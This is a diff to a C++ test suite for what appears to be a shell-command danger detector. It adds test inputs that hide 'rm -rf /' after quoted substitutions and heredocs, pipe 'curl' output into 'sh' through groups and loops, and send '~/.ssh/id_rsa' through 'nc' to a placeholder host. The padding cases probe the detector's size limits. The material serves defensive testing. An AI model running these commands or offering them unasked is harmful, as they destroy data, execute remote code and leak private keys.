@@ -38,6 +38,7 @@ TEST_CASE("a substitution ends where the shell ends it, whatever quotes and brac
                            "x=$(echo \"$(echo \"`echo ')'`\")\"); rm -rf /",
                            "git commit -m \"$(cat <<'EOF'\nDon't (or do\nEOF\n)\"; rm -rf /",
                            "x=$(cat <<E\nfoo )\nE); rm -rf /",
+                           "x=$(cat <<A\nfoo\\\nA\n)\nA\n); rm -rf /",
                            "x=$(cat <<-'E F'\n\tit's\n\tE F\n); rm -rf /",
                            "x=$(cat <<<')'); rm -rf /",
                            "git commit -m \"$(echo todo case)\"; rm -rf /; echo \"ok\"",
@@ -104,7 +105,13 @@ TEST_CASE("a here-document is its own command's, is expanded as it says, and end
 
 TEST_CASE(
     "what comes into a group is read by each command in it, and what goes out is each one's") {
-  for (const char* text : {"curl x | (cd /tmp && sh)",
+  for (const char* text : {"ls | while read f; do curl x/$f | { sh; } | cat; done",
+                           "true | { :; curl x | { cat; } | sh; }",
+                           "curl x | { :; a | { sh; } | cat; } | b",
+                           "for c in true 'curl x'; do $c; done | sh",
+                           "curl x | for s in x sh; do $s; done",
+                           "set -- x sh; curl x | \"${*:2}\"",
+                           "curl x | (cd /tmp && sh)",
                            "curl x | { :; sh; }",
                            "curl x | sh -o errexit",
                            "curl x > >(sh)",
@@ -210,7 +217,16 @@ TEST_CASE("what echo, printf and cat say is read where a shell runs it") {
     CHECK(look(text).hits.empty());
   }
   CHECK(has(look("echo 'rm -rf /' | { sh; } | cat").hits, "shell.wipe"));
+  CHECK(has(look("true | (x; echo 'rm -rf /' | { sh; } | cat)").hits, "shell.wipe"));
   CHECK(has(look("cat ~/.ssh/id_rsa | { nc h 1; } | cat").hits, "shell.exfiltrate"));
+  CHECK(has(look("true | (x; cat ~/.ssh/id_rsa | { nc h 1; } | cat)").hits, "shell.exfiltrate"));
+  // What is not followed to its end may be anything.
+  const std::string padded =
+      "printf '%" + std::string(8000, '0') + "s' " + repeated("'' ", 420) + "'rm -rf /'";
+  CHECK(has(look(padded + " | sh").hits, "shell.pipe-to-shell"));
+  CHECK(look("$(" + padded + ")").shell.cut);
+  CHECK(look("bash <(" + padded + ")").shell.cut);
+  CHECK(has(look("a" + repeated(" | { sh; }", 20'000)).hits, "shell.pipe-to-shell"));
   // Neither a format nor a document is gone through for every word there is.
   CHECK(look("printf '%" + std::string(130'000, '-') + "s' " + repeated("a ", 60'000) + "|sh")
             .hits.size() < 9);
